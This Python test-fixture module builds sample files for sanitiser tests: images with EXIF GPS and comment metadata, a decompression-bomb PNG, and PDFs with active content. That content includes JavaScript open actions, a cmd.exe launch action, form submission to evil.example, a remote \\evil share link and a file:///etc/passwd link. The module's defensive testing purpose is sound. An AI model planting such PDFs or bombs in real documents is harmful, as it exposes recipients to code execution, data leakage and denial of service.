"""Files for the tests, good and hostile, made by what makes such files elsewhere."""

import io
import struct
import zlib
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

MARK = b"SECRET-OF-THE-DEVICE"


def picture(size: tuple[int, int] = (640, 400), mode: str = "RGB") -> Image.Image:
    return Image.linear_gradient("L").resize(size).convert(mode)


def saved(image: Image.Image, format_: str, **options: Any) -> bytes:  # Any: each format has its own
    written = io.BytesIO()
    image.save(written, format_, **options)
    return written.getvalue()


def exif() -> Image.Exif:
    """Where and by what it was taken, and that it lies on its side."""
    found = Image.Exif()
    found[0x010F] = MARK.decode()
    found[0x0112] = 6  # turned by 90 degrees
    found.get_ifd(0x8825).update({1: "N", 2: (54.0, 21.0, 8.0), 3: "E", 4: (18.0, 38.0, 47.0)})
    return found


def jpeg(**options: Any) -> bytes:  # Any: as above
    return saved(picture(), "JPEG", **{"exif": exif(), "comment": MARK, **options})


def png() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Comment", MARK.decode())
    return saved(picture(mode="RGBA"), "PNG", pnginfo=told, exif=exif())


def heic() -> bytes:
    pillow_heif.register_heif_opener()
    return saved(picture(), "HEIF", exif=exif().tobytes(), quality=60)


def pdf(*, encryption: pikepdf.Encryption | None = None, **root: Any) -> bytes:  # Any: PDF objects
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    for name, value in root.items():
        made.Root[f"/{name}"] = made.make_indirect(value)
    written = io.BytesIO()
    made.save(written, encryption=encryption if encryption is not None else False)
    return written.getvalue()


def annotated(annotation: Dictionary) -> bytes:
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    page.obj["/Annots"] = made.make_indirect(Array([made.make_indirect(annotation)]))
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def acting(kind: str, **more: Any) -> Dictionary:  # Any: as above
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def link(**action: Any) -> Dictionary:  # Any: as above
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], **action)


def active_pdfs() -> dict[str, bytes]:
    """By what they would do."""

    def script() -> Dictionary:
        return acting("JavaScript", JS=String("app.alert(1)"))

    return {
        "a script when it opens": pdf(OpenAction=script()),
        "a script among the names": pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))),
        "a script when a page opens": pdf(AA=Dictionary(WC=script())),
        "a program": pdf(OpenAction=acting("Launch", F=String("cmd.exe"))),
        "a form that is sent": annotated(link(A=acting("SubmitForm", F=String("https://evil.example")))),
        "a file of another machine": annotated(link(A=acting("GoToR", F=String("\\\\evil\\share"), D=Array([0])))),
        "a script's address": annotated(link(A=acting("URI", URI=String("javascript:alert(1)")))),
        "a file's address": annotated(link(A=acting("URI", URI=String("file:///etc/passwd")))),
        "a form of XFA": pdf(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
        "a file in it": pdf(
            Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), Dictionary(Type=Name.Filespec)])))
        ),
        "a film": annotated(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 5, 5])),
        "a file to click on": annotated(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 5, 5])),
    }


def huge_png(width: int, height: int) -> bytes:
    """A few hundred bytes that unpack to as many pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" + bytes((width + 7) // 8)
    pack = zlib.compressobj(9)
    rows = b"".join(pack.compress(row) for _ in range(min(height, 2000))) + pack.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
